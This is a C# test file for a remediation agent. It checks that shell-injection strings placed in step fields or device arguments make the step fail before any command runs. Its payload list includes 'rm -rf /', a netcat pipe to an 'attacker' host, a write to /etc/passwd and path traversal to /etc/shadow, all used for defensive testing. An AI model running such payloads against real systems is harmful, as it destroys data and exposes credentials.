using Remediation.Agent.Devices;
using Remediation.Agent.Tests.Support;
using Remediation.Contracts;
using static Remediation.Agent.Tests.Support.Steps;

namespace Remediation.Agent.Tests.Executing;

/// <summary>Shell metacharacters in any field of a StepRequested never reach a command: the step fails first.</summary>
public sealed class InjectionTests : IDisposable
{
    private readonly HostTree _host = HostTree.Copy();
    private readonly string _state = StateDir();

    public static readonly string[] Payloads =
    [
        "; rm -rf /", "$(reboot)", "`reboot`", "| nc attacker 4444", "\nreboot", "&& reboot", "> /etc/passwd",
        "../../../../etc/shadow", "'; reboot; '", "\0reboot",
    ];

    // A valid value with the payload after it: what a lazy ^...$ pattern would let through.
    private static readonly (string Action, string Arg, string Valid)[] ArgCases =
    [
        ("gpu_reset", "device", "PCI:0000:01:00"), ("gpu_reset", "device", "0"), ("gpu_health", "device", "PCI:0000:01:00"),
        ("link_bounce", "port", "mlx5_0/1"), ("link_bounce", "port", "PCI:0000:4b:00.0"), ("link_check", "port", "mlx5_0/1"),
        ("node_health", "diag", "1"),
    ];

    public static TheoryData<string, string> Cases()
    {
        var data = new TheoryData<string, string>();
        foreach (var payload in Payloads)
        {
            foreach (var field in new[] { "nodeId", "action", "incidentId", "runbook", "step", "commandId", "argName" })
                data.Add(field, payload);
            foreach (var (action, arg, valid) in ArgCases)
            {
                data.Add($"{action}.{arg}", payload);
                data.Add($"{action}.{arg}+{valid}", payload);
            }
        }
        return data;
    }

    [Theory]
    [MemberData(nameof(Cases))]
    public async Task Fails_the_step_and_runs_nothing(string field, string payload)
    {
        var runner = new FakeRunner();
        var step = Poisoned(field, payload);

        var result = await Executor(_host, runner, _state).ExecuteAsync(step, default);

        Assert.Equal(StepOutcomes.Failed, result.Outcome);
        Assert.Empty(runner.Calls);
        Assert.DoesNotContain("\n", result.Output!.TrimEnd('\n'));
    }

    [Fact]
    public void Every_device_pattern_rejects_a_valid_value_followed_by_a_newline()
    {
        Assert.Null(Devices.DeviceArgs.CanonicalPci("PCI:0000:01:00\n"));
        Assert.Null(Devices.DeviceArgs.ParsePortName("mlx5_0/1\n"));
        Assert.False(Devices.DeviceArgs.IsGpuIndex("0\n"));
        Assert.NotNull(Devices.DeviceArgs.CanonicalPci("PCI:0000:01:00"));
    }

    private static StepRequested Poisoned(string field, string payload)
    {
        var step = Step("gpu_reset", new() { ["device"] = "PCI:0000:01:00" });
        return field switch
        {
            "nodeId" => step with { NodeId = Node + payload },
            "action" => step with { Action = "gpu_reset" + payload },
            "incidentId" => step with { IncidentId = step.IncidentId + payload },
            "runbook" => step with { Runbook = step.Runbook + payload },
            "step" => step with { Step = step.Step + payload },
            "commandId" => step with { CommandId = step.CommandId + payload },
            "argName" => step with { Args = new Dictionary<string, string> { ["device"] = "PCI:0000:01:00", ["device" + payload] = "0" } },
            _ => Argument(step, field, payload),
        };
    }

    private static StepRequested Argument(StepRequested step, string field, string payload)
    {
        var (target, valid) = field.Split('+', 2) is [var t, var v] ? (t, v) : (field, "");
        var (action, arg) = target.Split('.') is [var a, var n] ? (a, n) : throw new ArgumentException(field);
        return step with { Action = action, Args = new Dictionary<string, string> { [arg] = valid + payload } };
    }

    public void Dispose()
    {
        _host.Dispose();
        if (Directory.Exists(_state)) Directory.Delete(_state, recursive: true);
    }
}
